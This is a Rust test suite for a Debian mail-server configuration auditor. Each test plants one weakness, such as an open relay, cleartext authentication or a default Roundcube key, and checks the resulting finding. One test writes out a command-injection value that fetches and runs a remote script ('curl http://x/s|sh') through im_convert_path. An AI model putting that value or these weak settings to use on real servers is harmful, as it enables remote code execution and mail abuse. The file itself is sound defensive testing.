//! One test per check: a copy of the real Debian 12 root
//! (`testdata/debian-bookworm`, see PROVENANCE.md) with one weakness
//! introduced is audited, and the check is found at the file and line the
//! test wrote. The as-shipped root and the hardened copy are audited too.

use std::fs;
use std::path::{Path, PathBuf};

use vigie_audit::{Finding, Level, audit};

const SHIPPED: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/testdata/debian-bookworm"
);

/// A temporary copy of the shipped root.
struct Root {
    dir: tempfile::TempDir,
}

impl Root {
    fn shipped() -> Self {
        let dir = tempfile::tempdir().unwrap();
        copy_tree(Path::new(SHIPPED), dir.path());
        Self { dir }
    }

    fn path(&self, system: &str) -> PathBuf {
        self.dir.path().join(system.trim_start_matches('/'))
    }

    /// Replaces the line `from` (exactly, trimmed) by `to`; returns its line number.
    fn edit(&self, system: &str, from: &str, to: &str) -> u32 {
        let p = self.path(system);
        let text = fs::read_to_string(&p).unwrap();
        let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
        let i = lines
            .iter()
            .position(|l| l.trim() == from)
            .unwrap_or_else(|| panic!("{from:?} not in {system}"));
        lines[i] = to.to_string();
        fs::write(&p, lines.join("\n") + "\n").unwrap();
        u32::try_from(i + 1).unwrap()
    }

    /// Appends lines; returns the line number of the first one.
    fn append(&self, system: &str, text: &str) -> u32 {
        let p = self.path(system);
        let old = fs::read_to_string(&p).unwrap_or_default();
        let first = u32::try_from(old.lines().count() + 1).unwrap();
        let sep = if old.is_empty() || old.ends_with('\n') {
            ""
        } else {
            "\n"
        };
        fs::write(&p, format!("{old}{sep}{text}\n")).unwrap();
        first
    }

    fn write(&self, system: &str, text: &str) {
        let p = self.path(system);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, text).unwrap();
    }

    fn audit(&self) -> Vec<Finding> {
        audit(self.dir.path()).unwrap().findings
    }
}

fn copy_tree(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    for entry in fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let (src, dst) = (entry.path(), to.join(entry.file_name()));
        let kind = entry.file_type().unwrap();
        if kind.is_symlink() {
            std::os::unix::fs::symlink(fs::read_link(&src).unwrap(), &dst).unwrap();
        } else if kind.is_dir() {
            copy_tree(&src, &dst);
        } else {
            fs::copy(&src, &dst).unwrap();
        }
    }
}

/// The findings of `id`, as (path, line, level).
fn found(findings: &[Finding], id: &str) -> Vec<(String, Option<u32>, Level)> {
    findings
        .iter()
        .filter(|f| f.check_id == id)
        .map(|f| (f.path.clone(), f.line, f.level))
        .collect()
}

fn assert_at(findings: &[Finding], id: &str, path: &str, line: u32) {
    let hits = found(findings, id);
    assert!(
        hits.iter().any(|(p, l, _)| p == path && *l == Some(line)),
        "{id} not at {path}:{line}; {id} found at {hits:?}"
    );
}

const RC_CONFIG: &str = "/etc/roundcube/config.inc.php";

#[test]
fn shipped_debian_root_has_no_high_finding_and_only_the_fair_ones() {
    let findings = Root::shipped().audit();
    let ids: Vec<&str> = findings.iter().map(|f| f.check_id).collect();
    // Fair on a fresh Debian 12: Roundcube's defaults leave ip_check and
    // log_logins off, no jail covers the webmail (Roundcube's own
    // login_rate_limit = 3 does, hence low) nor Dovecot, which listens on
    // every address by default.
    assert_eq!(
        ids,
        ["VAUD204", "VAUD104", "VAUD110", "VAUD501"],
        "{findings:#?}"
    );
    assert!(!findings.iter().any(|f| f.level == Level::High));
    assert_at(&findings, "VAUD104", "/etc/roundcube/defaults.inc.php", 634);
    assert_at(&findings, "VAUD110", "/etc/roundcube/defaults.inc.php", 103);
    assert_eq!(found(&findings, "VAUD501")[0].2, Level::Low);
}

#[test]
fn hardened_copy_has_no_finding() {
    let r = Root::shipped();
    r.append(
        RC_CONFIG,
        "$config['ip_check'] = true;\n$config['log_logins'] = true;",
    );
    r.edit(
        "/etc/dovecot/dovecot.conf",
        "#listen = *, ::",
        "listen = 127.0.0.1",
    );
    r.write(
        "/etc/fail2ban/jail.d/mail.local",
        "[roundcube-auth]\nenabled = true\n\n[dovecot]\nenabled = true\n",
    );
    let findings = r.audit();
    assert!(findings.is_empty(), "{findings:#?}");
}

#[test]
fn vaud001_debian_package_judged_by_debian_fixed_versions() {
    let r = Root::shipped();
    let line = r.edit(
        "/var/lib/dpkg/status",
        "Version: 1.6.5+dfsg-1+deb12u14",
        "Version: 1.6.5+dfsg-1+deb12u4",
    ) - 2;
    let findings = r.audit();
    let vulns: Vec<&Finding> = findings
        .iter()
        .filter(|f| f.check_id == "VAUD001")
        .collect();
    let cves: Vec<&str> = vulns.iter().filter_map(|f| f.cve.as_deref()).collect();
    // deb12u4 carries the backported fixes up to deb12u3 (CVE-2024-37383,
    // -42008, -42009) but not deb12u5 (CVE-2025-49113) nor deb12u6 (CVE-2025-68461).
    assert_eq!(cves, ["CVE-2025-49113", "CVE-2025-68461"]);
    for f in &vulns {
        assert_eq!(
            (f.path.as_str(), f.line, f.level),
            ("/var/lib/dpkg/status", Some(line), Level::High)
        );
        assert_eq!(f.version.as_deref(), Some("1.6.5+dfsg-1+deb12u4"));
        assert!(
            f.why.contains("Debian bookworm's fixed version"),
            "{}",
            f.why
        );
    }
    assert!(
        vulns[0].why.contains("1.6.5+dfsg-1+deb12u5")
            && vulns[0].exploited_by.as_deref().unwrap().contains("TA458")
    );
}

#[test]
fn vaud001_upstream_tree_flagged_for_fixes_after_165() {
    let r = Root::shipped();
    // An upstream 1.6.5 tarball unpacked by hand beside the package.
    let iniset =
        fs::read_to_string(r.path("/usr/share/roundcube/program/include/iniset.php")).unwrap();
    let upstream = iniset.replace(
        "define('INSTALL_PATH', '/var/lib/roundcube/');",
        "define('INSTALL_PATH', realpath(__DIR__ . '/../../') . '/');",
    );
    r.write(
        "/var/www/roundcubemail/program/include/iniset.php",
        &upstream,
    );
    let findings = r.audit();
    let here: Vec<&Finding> = findings
        .iter()
        .filter(|f| f.path == "/var/www/roundcubemail/program/include/iniset.php")
        .collect();
    let cves: Vec<&str> = here.iter().filter_map(|f| f.cve.as_deref()).collect();
    assert_eq!(
        cves,
        [
            "CVE-2024-37383",
            "CVE-2024-42009",
            "CVE-2025-49113",
            "CVE-2025-68461",
            "CVE-2024-42008"
        ]
    );
    assert!(
        here.iter()
            .all(|f| f.line == Some(29) && f.version.as_deref() == Some("1.6.5"))
    );
    // The Debian package's own tree is judged by dpkg (deb12u14: all fixed).
    assert!(
        !findings
            .iter()
            .any(|f| f.check_id == "VAUD001" && f.path.starts_with("/usr/share/roundcube"))
    );
}

#[test]
fn vaud000_unreadable_file_named_rest_audited() {
    let r = Root::shipped();
    let f = fs::File::create(r.path("/etc/postfix/main.cf")).unwrap();
    f.set_len(9 << 20).unwrap();
    let findings = r.audit();
    assert_eq!(
        found(&findings, "VAUD000"),
        [("/etc/postfix/main.cf".to_string(), None, Level::Info)]
    );
    assert!(
        !found(&findings, "VAUD104").is_empty(),
        "the rest is still audited"
    );
}

#[test]
fn vaud101_installer_enabled() {
    let r = Root::shipped();
    let line = r.append(RC_CONFIG, "$config['enable_installer'] = true;");
    assert_at(&r.audit(), "VAUD101", RC_CONFIG, line);
}

#[test]
fn vaud102_installer_served() {
    let r = Root::shipped();
    fs::create_dir_all(r.path("/var/lib/roundcube/installer")).unwrap();
    let line = r.edit(
        "/etc/nginx/sites-available/default",
        "root /var/www/html;",
        "root /var/lib/roundcube;",
    );
    let findings = r.audit();
    assert_at(
        &findings,
        "VAUD102",
        "/etc/nginx/sites-available/default",
        line,
    );
}

#[test]
fn vaud103_default_des_key() {
    let r = Root::shipped();
    let line = r.edit(
        RC_CONFIG,
        "$config['des_key'] = 'q0ZKwWQ1nB2fR8sVt7mXyA3d';",
        "$config['des_key'] = 'rcmail-!24ByteDESkey*Str';",
    );
    assert_at(&r.audit(), "VAUD103", RC_CONFIG, line);
    let short = Root::shipped();
    let line = short.edit(
        RC_CONFIG,
        "$config['des_key'] = 'q0ZKwWQ1nB2fR8sVt7mXyA3d';",
        "$config['des_key'] = 'secret';",
    );
    assert_at(&short.audit(), "VAUD103", RC_CONFIG, line);
}

#[test]
fn vaud105_session_lifetime_unlimited() {
    let r = Root::shipped();
    let line = r.append(RC_CONFIG, "$config['session_lifetime'] = 0;");
    assert_at(&r.audit(), "VAUD105", RC_CONFIG, line);
}

#[test]
fn vaud106_password_plugin() {
    let r = Root::shipped();
    let line = r.append(RC_CONFIG, "$config['plugins'] = ['password'];");
    assert_at(&r.audit(), "VAUD106", RC_CONFIG, line);
}

#[test]
fn vaud107_managesieve_redirect_anywhere() {
    let r = Root::shipped();
    r.append(RC_CONFIG, "$config['plugins'] = ['managesieve'];");
    // The plugin's shipped default: managesieve_domains = [] (no limit).
    assert_at(
        &r.audit(),
        "VAUD107",
        "/usr/share/roundcube/plugins/managesieve/config.inc.php.dist",
        78,
    );
    let limited = Root::shipped();
    limited.append(RC_CONFIG, "$config['plugins'] = ['managesieve'];");
    limited.append(
        "/etc/roundcube/plugins/managesieve/config.inc.php",
        "<?php $config['managesieve_domains'] = ['example.org'];",
    );
    assert!(found(&limited.audit(), "VAUD107").is_empty());
}

#[test]
fn vaud108_im_convert_path_injection() {
    let r = Root::shipped();
    let line = r.append(
        RC_CONFIG,
        "$config['im_convert_path'] = '/usr/bin/convert; curl http://x/s|sh #';",
    );
    assert_at(&r.audit(), "VAUD108", RC_CONFIG, line);
}

#[test]
fn vaud109_internals_served_by_nginx() {
    let r = Root::shipped();
    let line = r.edit(
        "/etc/nginx/sites-available/default",
        "root /var/www/html;",
        "root /var/lib/roundcube;",
    );
    let findings = r.audit();
    let hits = found(&findings, "VAUD109");
    let levels: Vec<Level> = hits.iter().map(|h| h.2).collect();
    assert_eq!(
        levels,
        [Level::High, Level::Medium, Level::Medium],
        "config, logs, temp: {hits:?}"
    );
    assert_at(
        &findings,
        "VAUD109",
        "/etc/nginx/sites-available/default",
        line,
    );
    // Denying them (Roundcube's documented nginx rule) silences the check.
    let denied = Root::shipped();
    denied.edit(
        "/etc/nginx/sites-available/default",
        "root /var/www/html;",
        "root /var/lib/roundcube; location ~ ^/(config|temp|logs)/ { deny all; }",
    );
    assert!(found(&denied.audit(), "VAUD109").is_empty());
    // Serving public_html/ (Debian's way) is fine.
    let public = Root::shipped();
    public.edit(
        "/etc/nginx/sites-available/default",
        "root /var/www/html;",
        "root /var/lib/roundcube/public_html;",
    );
    assert!(found(&public.audit(), "VAUD109").is_empty());
}

#[test]
fn vaud109_internals_served_by_apache_alias() {
    let r = Root::shipped();
    fs::create_dir_all(r.path("/etc/apache2/conf-enabled")).unwrap();
    fs::copy(
        concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/testdata/apache2/apache2.conf"
        ),
        r.path("/etc/apache2/apache2.conf"),
    )
    .unwrap();
    fs::remove_file(r.path("/etc/nginx/sites-enabled/default")).unwrap();
    // Debian's roundcube apache.conf, with its commented Alias pointed at the
    // tree instead of public_html/: it denies temp/ and logs/ but not config/.
    fs::copy(
        r.path("/etc/roundcube/apache.conf"),
        r.path("/etc/apache2/conf-enabled/roundcube.conf"),
    )
    .unwrap();
    let line = r.edit(
        "/etc/apache2/conf-enabled/roundcube.conf",
        "#    Alias /roundcube /var/lib/roundcube/public_html",
        "Alias /roundcube /var/lib/roundcube",
    );
    let findings = r.audit();
    let hits = found(&findings, "VAUD109");
    assert_eq!(
        hits,
        [(
            "/etc/apache2/conf-enabled/roundcube.conf".to_string(),
            Some(line),
            Level::High
        )],
        "only config/"
    );
    // Debian's apache2.conf lists folders under /var/www/.
    assert_at(&findings, "VAUD601", "/etc/apache2/apache2.conf", 171);
}

#[test]
fn vaud201_dovecot_ssl_off() {
    let r = Root::shipped();
    let line = r.edit("/etc/dovecot/conf.d/10-ssl.conf", "ssl = yes", "ssl = no");
    assert_at(
        &r.audit(),
        "VAUD201",
        "/etc/dovecot/conf.d/10-ssl.conf",
        line,
    );
}

#[test]
fn vaud202_dovecot_cleartext_auth() {
    let r = Root::shipped();
    let line = r.edit(
        "/etc/dovecot/conf.d/10-auth.conf",
        "#disable_plaintext_auth = yes",
        "disable_plaintext_auth = no",
    );
    let findings = r.audit();
    assert_at(
        &findings,
        "VAUD202",
        "/etc/dovecot/conf.d/10-auth.conf",
        line,
    );
    let f = findings.iter().find(|f| f.check_id == "VAUD202").unwrap();
    assert!(
        f.evidence.contains("auth_mechanisms = plain"),
        "{}",
        f.evidence
    );
    assert_eq!(f.level, Level::Medium);
    // Dovecot 2.4's name for it.
    let v24 = Root::shipped();
    let line = v24.append(
        "/etc/dovecot/conf.d/10-auth.conf",
        "auth_allow_cleartext = yes",
    );
    assert_at(
        &v24.audit(),
        "VAUD202",
        "/etc/dovecot/conf.d/10-auth.conf",
        line,
    );
}

#[test]
fn vaud204_listen_all_without_jail() {
    let findings = Root::shipped().audit();
    let hits = found(&findings, "VAUD204");
    assert_eq!(
        hits,
        [("/etc/dovecot/dovecot.conf".to_string(), None, Level::Medium)]
    );
    let jailed = Root::shipped();
    jailed.write("/etc/fail2ban/jail.local", "[dovecot]\nenabled = true\n");
    assert!(found(&jailed.audit(), "VAUD204").is_empty());
}

#[test]
fn vaud205_master_users() {
    let r = Root::shipped();
    r.edit(
        "/etc/dovecot/conf.d/10-auth.conf",
        "#!include auth-master.conf.ext",
        "!include auth-master.conf.ext",
    );
    assert_at(
        &r.audit(),
        "VAUD205",
        "/etc/dovecot/conf.d/auth-master.conf.ext",
        10,
    );
}

#[test]
fn vaud206_no_failure_delay() {
    let r = Root::shipped();
    let line = r.edit(
        "/etc/dovecot/conf.d/10-auth.conf",
        "#auth_failure_delay = 2 secs",
        "auth_failure_delay = 0",
    );
    assert_at(
        &r.audit(),
        "VAUD206",
        "/etc/dovecot/conf.d/10-auth.conf",
        line,
    );
}

#[test]
fn vaud301_sieve_pipe_for_users() {
    let r = Root::shipped();
    let line = r.edit(
        "/etc/dovecot/conf.d/90-sieve.conf",
        "#sieve_extensions = +notify +imapflags",
        "sieve_extensions = +vnd.dovecot.pipe",
    );
    assert_at(
        &r.audit(),
        "VAUD301",
        "/etc/dovecot/conf.d/90-sieve.conf",
        line,
    );
    // Pigeonhole 2.4: a boolean inside `sieve_extensions { }`.
    let v24 = Root::shipped();
    let first = v24.append(
        "/etc/dovecot/conf.d/90-sieve.conf",
        "sieve_extensions {\n  vnd.dovecot.execute = yes\n}",
    );
    assert_at(
        &v24.audit(),
        "VAUD301",
        "/etc/dovecot/conf.d/90-sieve.conf",
        first + 1,
    );
}

#[test]
fn vaud302_sieve_redirects_raised() {
    let r = Root::shipped();
    let line = r.edit(
        "/etc/dovecot/conf.d/90-sieve.conf",
        "#sieve_max_redirects = 4",
        "sieve_max_redirects = 30",
    );
    assert_at(
        &r.audit(),
        "VAUD302",
        "/etc/dovecot/conf.d/90-sieve.conf",
        line,
    );
}

#[test]
fn vaud401_wide_mynetworks() {
    let r = Root::shipped();
    let line = r.edit(
        "/etc/postfix/main.cf",
        "mynetworks = 127.0.0.0/8 [::ffff:127.0.0.0]/104 [::1]/128",
        "mynetworks = 127.0.0.0/8 0.0.0.0/0",
    );
    assert_at(&r.audit(), "VAUD401", "/etc/postfix/main.cf", line);
}

#[test]
fn vaud402_relay_permit() {
    let r = Root::shipped();
    let line = r.edit(
        "/etc/postfix/main.cf",
        "smtpd_relay_restrictions = permit_mynetworks permit_sasl_authenticated defer_unauth_destination",
        "smtpd_relay_restrictions = permit_mynetworks permit",
    );
    assert_at(&r.audit(), "VAUD402", "/etc/postfix/main.cf", line);
}

#[test]
fn vaud403_vaud404_sasl_on_25_without_tls_or_rate_limit() {
    let r = Root::shipped();
    let line = r.append("/etc/postfix/main.cf", "smtpd_sasl_auth_enable = yes");
    let findings = r.audit();
    assert_at(&findings, "VAUD403", "/etc/postfix/main.cf", line);
    assert_at(&findings, "VAUD404", "/etc/postfix/main.cf", line);
    // TLS required for AUTH and a rate limit: quiet.
    let fixed = Root::shipped();
    fixed.append("/etc/postfix/main.cf", "smtpd_sasl_auth_enable = yes\nsmtpd_tls_auth_only = yes\nsmtpd_client_auth_rate_limit = 10");
    let findings = fixed.audit();
    assert!(found(&findings, "VAUD403").is_empty() && found(&findings, "VAUD404").is_empty());
}

#[test]
fn vaud411_exim_relay_nets() {
    let r = Root::shipped();
    let line = r.edit(
        "/etc/exim4/update-exim4.conf.conf",
        "dc_relay_nets=''",
        "dc_relay_nets='192.168.0.0/16 : 0.0.0.0/0'",
    );
    assert_at(
        &r.audit(),
        "VAUD411",
        "/etc/exim4/update-exim4.conf.conf",
        line,
    );
}

#[test]
fn vaud412_exim_auth_without_tls() {
    let r = Root::shipped();
    r.write(
        "/etc/exim4/conf.d/main/000_localmacros",
        "# local\nAUTH_SERVER_ALLOW_NOTLS_PASSWORDS = 1\n",
    );
    assert_at(
        &r.audit(),
        "VAUD412",
        "/etc/exim4/conf.d/main/000_localmacros",
        2,
    );
}

#[test]
fn vaud501_no_jail_and_no_rate_limit() {
    let r = Root::shipped();
    let line = r.append(RC_CONFIG, "$config['login_rate_limit'] = 0;");
    let findings = r.audit();
    let hits = found(&findings, "VAUD501");
    assert_eq!(
        hits,
        [(RC_CONFIG.to_string(), None, Level::Medium)],
        "rate limit off at line {line}"
    );
}

#[test]
fn vaud601_nginx_autoindex() {
    let r = Root::shipped();
    let line = r.edit(
        "/etc/nginx/sites-available/default",
        "root /var/www/html;",
        "root /var/www/html; autoindex on;",
    );
    assert_at(
        &r.audit(),
        "VAUD601",
        "/etc/nginx/sites-available/default",
        line,
    );
}

#[test]
fn vaud701_vaud702_php_ini() {
    let r = Root::shipped();
    let a = r.edit(
        "/etc/php/8.2/fpm/php.ini",
        "allow_url_include = Off",
        "allow_url_include = On",
    );
    let d = r.edit(
        "/etc/php/8.2/fpm/php.ini",
        "display_errors = Off",
        "display_errors = On",
    );
    let findings = r.audit();
    assert_at(&findings, "VAUD701", "/etc/php/8.2/fpm/php.ini", a);
    assert_at(&findings, "VAUD702", "/etc/php/8.2/fpm/php.ini", d);
}

#[test]
fn every_check_has_a_test_here() {
    let source = include_str!("checks.rs");
    for check in vigie_audit::checks::CHECKS {
        let lower = check.id.to_ascii_lowercase();
        assert!(
            source.contains(&lower) || source.contains(&format!("\"{}\"", check.id)),
            "{} has no test",
            check.id
        );
    }
}

#[test]
fn vaud403_submission_in_master_cf() {
    let master = "/etc/postfix/master.cf";
    // Debian's commented submission service, enabled with AUTH but without
    // its `smtpd_tls_security_level=encrypt` line.
    let r = Root::shipped();
    r.edit(
        master,
        "#submission inet n       -       y       -       -       smtpd",
        "submission inet n       -       y       -       -       smtpd",
    );
    let line = r.edit(
        master,
        "#  -o smtpd_sasl_auth_enable=yes",
        "  -o smtpd_sasl_auth_enable=yes",
    );
    assert_at(&r.audit(), "VAUD403", master, line);
    // The whole suggested block (encrypt, tls_auth_only): quiet.
    let ok = Root::shipped();
    ok.edit(
        master,
        "#submission inet n       -       y       -       -       smtpd",
        "submission inet n       -       y       -       -       smtpd",
    );
    for o in [
        "smtpd_tls_security_level=encrypt",
        "smtpd_sasl_auth_enable=yes",
        "smtpd_tls_auth_only=yes",
    ] {
        ok.edit(master, &format!("#  -o {o}"), &format!("  -o {o}"));
    }
    assert!(found(&ok.audit(), "VAUD403").is_empty());
}

#[test]
fn vaud103_random_key_a_little_short_is_low() {
    let r = Root::shipped();
    let line = r.edit(
        RC_CONFIG,
        "$config['des_key'] = 'q0ZKwWQ1nB2fR8sVt7mXyA3d';",
        "$config['des_key'] = 'ON2TKwxi98O9UfpWu74OScj';",
    );
    assert_eq!(
        found(&r.audit(), "VAUD103"),
        [(RC_CONFIG.to_string(), Some(line), Level::Low)]
    );
}

#[test]
fn cleartext_on_loopback_only_is_low() {
    let r = Root::shipped();
    r.edit("/etc/dovecot/conf.d/10-ssl.conf", "ssl = yes", "ssl = no");
    r.edit(
        "/etc/dovecot/dovecot.conf",
        "#listen = *, ::",
        "listen = 127.0.0.1, ::1",
    );
    r.append("/etc/postfix/main.cf", "smtpd_sasl_auth_enable = yes");
    r.edit(
        "/etc/postfix/main.cf",
        "inet_interfaces = all",
        "inet_interfaces = 127.0.0.1",
    );
    let findings = r.audit();
    assert_eq!(found(&findings, "VAUD201")[0].2, Level::Low);
    assert_eq!(found(&findings, "VAUD403")[0].2, Level::Low);
}

/// Hostile or broken files never panic the audit: every text file of the
/// root is cut at several points and has bytes flipped, then the root is
/// audited again.
#[test]
fn broken_files_never_panic() {
    let r = Root::shipped();
    let mut files = Vec::new();
    let mut stack = vec![r.dir.path().to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            let kind = e.file_type().unwrap();
            if kind.is_dir() {
                stack.push(e.path());
            } else if kind.is_file() {
                files.push(e.path());
            }
        }
    }
    let originals: Vec<Vec<u8>> = files.iter().map(|f| fs::read(f).unwrap()).collect();
    for round in 0..6usize {
        for (f, orig) in files.iter().zip(&originals) {
            let mut bytes = orig.clone();
            let cut = (orig.len() * (round + 1)) / 7;
            bytes.truncate(cut);
            for i in (round..bytes.len()).step_by(97 + round) {
                bytes[i] = [
                    b'{', b'}', b'\'', b'"', b';', 0xff, b'\n', b'[', b'#', b'\\',
                ][(i + round) % 10];
            }
            fs::write(f, &bytes).unwrap();
        }
        let _ = r.audit();
    }
}

#[test]
fn vaud109_apache_quiet_when_roundcube_htaccess_applies_or_public_html_served() {
    let setup = |alias: &str, directory_override: bool| {
        let r = Root::shipped();
        fs::create_dir_all(r.path("/etc/apache2/conf-enabled")).unwrap();
        fs::copy(
            concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/tests/testdata/apache2/apache2.conf"
            ),
            r.path("/etc/apache2/apache2.conf"),
        )
        .unwrap();
        fs::copy(
            r.path("/etc/roundcube/apache.conf"),
            r.path("/etc/apache2/conf-enabled/roundcube.conf"),
        )
        .unwrap();
        r.edit(
            "/etc/apache2/conf-enabled/roundcube.conf",
            "#    Alias /roundcube /var/lib/roundcube/public_html",
            alias,
        );
        if directory_override {
            // Roundcube's own .htaccess (Debian: /etc/roundcube/htaccess) forbids
            // config/, logs/, temp/ with RewriteRule … [F] once it may apply.
            r.append(
                "/etc/apache2/conf-enabled/roundcube.conf",
                "<Directory /var/lib/roundcube>\n  AllowOverride All\n</Directory>",
            );
        }
        r
    };
    assert!(
        found(
            &setup("Alias /roundcube /var/lib/roundcube/public_html", false).audit(),
            "VAUD109"
        )
        .is_empty()
    );
    assert!(
        found(
            &setup("Alias /roundcube /var/lib/roundcube", true).audit(),
            "VAUD109"
        )
        .is_empty()
    );
}
